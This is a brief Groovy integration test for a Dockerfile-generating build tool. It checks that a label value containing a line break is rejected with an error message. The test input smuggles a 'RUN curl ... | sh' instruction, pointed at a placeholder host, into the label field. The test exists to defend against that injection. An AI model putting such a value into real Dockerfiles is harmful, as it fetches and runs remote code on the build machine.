def expectFailure = evaluate(new File(itSources, 'bad-input.groovy'))
return expectFailure(basedir, '''dockerfile: <labels> contains a line break in 'payments\\nRUN curl -fsS https://example.invalid/x | sh'. Write the value on one line.''')
